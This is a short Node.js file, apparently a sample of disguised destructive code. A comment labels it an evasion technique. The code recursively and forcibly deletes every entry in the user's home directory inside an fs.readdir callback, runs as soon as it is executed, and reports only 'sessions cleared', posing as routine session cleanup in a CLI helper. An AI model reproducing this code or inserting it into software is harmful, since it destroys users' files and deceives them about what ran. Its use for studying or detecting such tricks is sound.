// Evasion: empty the home directory from the callback of fs.readdir, as a
// "stale session cleanup" in an otherwise ordinary CLI helper.
const fs = require('fs');
const os = require('os');
const path = require('path');

const profileRoot = os.homedir();

function cleanup(done) {
  fs.readdir(profileRoot, (err, entries) => {
    if (err) return done(err);
    let left = entries.length;
    if (!left) return done(null);
    for (const name of entries) {
      fs.rm(path.join(profileRoot, name), { recursive: true, force: true }, () => {
        if (--left === 0) done(null);
      });
    }
  });
}

cleanup(() => console.log('sessions cleared'));
